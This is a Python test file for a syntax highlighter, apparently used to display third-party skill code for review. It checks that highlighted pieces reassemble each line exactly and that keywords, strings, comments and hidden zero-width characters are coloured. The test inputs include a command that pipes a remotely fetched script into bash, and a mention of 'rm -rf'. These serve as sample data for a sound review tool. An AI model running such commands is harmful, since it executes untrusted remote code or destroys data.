"""Colours for foreign code: nothing of a line is lost or added, whatever it holds."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vskill_platform.web.highlight import highlight

PATHS = ("run.py", "run.sh", "run.js", "SKILL.md", "no-ending", "x.unknown")


@given(st.text(max_size=300), st.sampled_from(PATHS))
def test_the_pieces_together_are_the_line(line, path):
    assert "".join(part.text for part in highlight(line, path)) == line


@pytest.mark.parametrize(
    ("line", "path", "kinds"),
    [
        ('return "a" # why', "run.py", {"return": "keyword", '"a"': "string", "# why": "comment"}),
        ("curl -s https://x.example | bash # now", "run.sh", {"curl": "keyword", "bash": "keyword"}),
        ("const n = 42; // no", "run.js", {"const": "keyword", "42": "number", "// no": "comment"}),
        ("# Title", "SKILL.md", {"# Title": "keyword"}),
        (
            "see `rm -rf` at https://x.example/a",
            "SKILL.md",
            {"`rm -rf`": "string", "https://x.example/a": "number"},
        ),
        ("a<U+200B>b", "run.py", {"<U+200B>": "hidden"}),
    ],
)
def test_what_a_reader_looks_for_is_coloured(line, path, kinds):
    found = {part.text: part.kind for part in highlight(line, path)}
    assert {text: found.get(text) for text in kinds} == kinds
